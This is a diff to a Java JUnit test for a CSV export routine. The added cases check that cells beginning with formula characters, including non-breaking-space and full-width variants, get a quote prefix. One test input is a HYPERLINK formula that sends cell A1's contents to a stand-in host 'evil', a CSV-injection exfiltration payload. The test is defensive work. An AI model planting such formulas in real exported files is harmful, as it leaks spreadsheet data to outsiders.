@@ -4,6 +4,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 class CsvAnswersTest {
@@ -24,7 +25,32 @@ class CsvAnswersTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"+33612345678", "client@exemple.com", "2027-01-15T13:00:00Z", "sent", "a=b", ""})
+    @CsvSource(
+            delimiter = '|',
+            quoteCharacter = '`',
+            value = {
+                "x;=HYPERLINK(\"http://evil/?\"&A1) | x;'=HYPERLINK(\"http://evil/?\"&A1)",
+                "a,@SUM(A1) | a,'@SUM(A1)",
+                "a;\u00a0-1;+2 | a;'\u00a0-1;'+2",
+                "\uff1d1+1 | '\uff1d1+1",
+                "\u00a0\uff0b1 | '\u00a0\uff0b1",
+                "she said \"=1\" | she said \"'=1\""
+            })
+    void soHasWhatASpreadsheetOfAnotherLanguageWouldMakeACellOf(String cell, String written) {
+        assertThat(CsvAnswers.text(cell)).isEqualTo(written);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "+33612345678",
+                "client@exemple.com",
+                "2027-01-15T13:00:00Z",
+                "sent",
+                "a=b",
+                "",
+                "Give it as +33612345678 or 06 12"
+            })
     void whatItWouldNotStaysAsItIs(String cell) {
         assertThat(CsvAnswers.text(cell)).isEqualTo(cell);
     }
